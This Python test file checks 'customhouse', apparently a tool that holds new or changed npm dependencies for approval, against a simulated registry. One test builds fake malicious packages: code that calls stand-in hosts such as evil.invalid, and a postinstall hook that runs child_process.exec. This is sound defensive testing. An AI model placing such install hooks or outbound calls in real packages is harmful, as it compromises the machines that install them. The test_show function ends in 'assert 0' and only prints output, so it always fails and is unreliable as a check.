"""`customhouse check --base REV` and `approve` from outside: real git, real locks, the registry simulator."""

from datetime import UTC, datetime

import pytest

from pipeline.projects import npm_project
from pipeline.repositories import Repository

OLD = datetime(2024, 1, 1, tzinfo=UTC)
SAID = ("--reason", "read", "--owner", "me@registry.example")


@pytest.fixture
def project(registry, tmp_path):
    """A repository whose one package is committed; the registry is asked anew in every run."""
    archive = registry.npm.publish("one", "1.0.0", published=OLD)
    repository = Repository(tmp_path / "project")
    repository.packages = {("one", "1.0.0"): archive}
    npm_project(repository.folder, repository.packages)
    (repository.folder / "customhouse.toml").write_text('[cache]\nmetadata_max_age = "0"\n')
    repository.commit("one")
    return repository


def test_a_dependency_is_held_until_somebody_approves_these_bytes(customhouse, registry, project):
    two = registry.npm.publish("two", "2.0.0", published=OLD)
    npm_project(project.folder, {**project.packages, ("two", "2.0.0"): two})
    held = customhouse("check", "--base", "HEAD", cwd=project.folder)
    assert held.code == 10, held.stdout + held.stderr
    assert "new-dependency: two@2.0.0 is new: nothing at HEAD had two" in held.stdout
    assert "customhouse approve pkg:npm/two@2.0.0" in held.stdout

    approved = customhouse("approve", "pkg:npm/two@2.0.0", *SAID, cwd=project.folder)
    assert approved.code == 0, approved.stderr
    allowed = customhouse("check", "--base", "HEAD", cwd=project.folder)
    assert allowed.code == 0, allowed.stdout + allowed.stderr

    other = registry.npm.publish("two", "2.0.0", files={"index.js": "module.exports = 2\n"}, published=OLD)
    npm_project(project.folder, {**project.packages, ("two", "2.0.0"): other})
    again = customhouse("check", "--base", "HEAD", cwd=project.folder)
    assert again.code == 10, again.stdout + again.stderr
    assert "names other bytes than those that are here now" in again.stdout


def test_show(customhouse, registry, project):
    deep = registry.npm.publish("deep", "0.1.0", published=OLD)
    two = registry.npm.publish(
        "two",
        "2.0.0",
        published=OLD,
        dependencies={"deep": "^0.1.0"},
        scripts={"postinstall": "node setup.js"},
        files={
            "index.js": "require('https').get('https://evil.invalid/x')",
            "setup.js": "require('child_process').exec('x')",
        },
    )
    one = registry.npm.publish(
        "one", "1.1.0", published=OLD, files={"index.js": "require('https').get('https://evil2.invalid/x')"}
    )
    npm_project(project.folder, {("one", "1.1.0"): one, ("two", "2.0.0"): two, ("deep", "0.1.0"): deep})
    for form in ("plain", "markdown", "json"):
        held = customhouse(
            "check", "--base", "HEAD", "--format", form, cwd=project.folder, environment={"GITHUB_ACTIONS": "true"}
        )
        print(held.stdout)
    print(held.stderr)
    r = customhouse("approve", "--all-new", "--base", "HEAD", *SAID, cwd=project.folder)
    print(r.stderr)
    assert 0
